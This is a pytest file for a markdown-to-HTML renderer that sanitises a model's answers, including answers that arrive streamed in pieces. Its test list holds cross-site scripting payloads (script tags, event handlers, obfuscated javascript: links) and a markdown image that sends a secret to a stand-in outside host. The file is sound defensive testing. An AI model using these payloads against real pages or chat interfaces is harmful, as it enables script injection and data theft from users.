"""What a model writes is shown as safe HTML, whole or in pieces."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parvis.web.markdown import BlockStream, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://elsewhere.example/?q=secret)",
    '![x](https://elsewhere.example/ "t")',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](&#106;avascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed">x</div>',
    "<iframe src=//elsewhere.example></iframe>",
    "<form action=//elsewhere.example><input></form>",
    "| <script>a</script> | b |\n|---|---|\n| <img src=x> | `<b>` |",
    "```html\n<script>alert(1)</script>\n```",
    "<table><tr><td><table background=//x></table></td></tr></table>",
    '[a](https://ok.example "\'><script>x</script>")',
    "<https://ok.example/<script>>",
    "> <script>\n> x",
    "\u202e<scr\u0000ipt>",
]
_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
_ALLOWED = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "div"),
}


def _check_harmless(html: str) -> None:
    for tag, attributes in _TAG.findall(html):
        assert tag in _ALLOWED
        assert not re.search(r"\son|style|src\s*=|javascript:|data:|vbscript:", attributes.lower())


@pytest.mark.parametrize("attack", ATTACKS)
def test_active_content_of_an_answer_is_never_active(attack: str) -> None:
    _check_harmless(render_markdown(attack))
    stream = BlockStream()
    for character in attack + "\n\nend\n":
        for html in stream.feed(character):
            _check_harmless(html)
    for html in stream.flush():
        _check_harmless(html)


@given(st.text(alphabet="<>&\"'()[]!`*_#|-\n abjsh:/=", max_size=120))
def test_no_text_makes_a_tag_that_is_not_allowed(text: str) -> None:
    _check_harmless(render_markdown(text))


ANSWER = """Intro with **bold** and a [link](https://agency.example/a?b=1).

# Steps

1. First

   more of the first
2. Second

| A | B |
|---|---|
| 1 | 2 |

```
code

still code
```

Last line"""


@pytest.mark.parametrize("size", [1, 2, 7, 31, 1000])
def test_blocks_in_pieces_equal_the_answer_in_one(size: int) -> None:
    stream, blocks = BlockStream(), []
    for start in range(0, len(ANSWER), size):
        blocks += stream.feed(ANSWER[start : start + size])
    blocks += stream.flush()
    assert "".join(blocks) == render_markdown(ANSWER)
    assert stream.rest == ""


def test_unfinished_block_is_kept_as_text() -> None:
    stream = BlockStream()
    assert list(stream.feed("One\n\nTwo **bo")) == ["<p>One</p>\n"]
    assert stream.rest == "Two **bo"


def test_headings_start_below_the_pages_own_and_tables_scroll_inside() -> None:
    html = render_markdown(ANSWER)
    assert "<h4>Steps</h4>" in html
    assert '<div class="scroll" tabindex="0" role="group"><table>' in html
    assert 'rel="noopener noreferrer nofollow"' in html
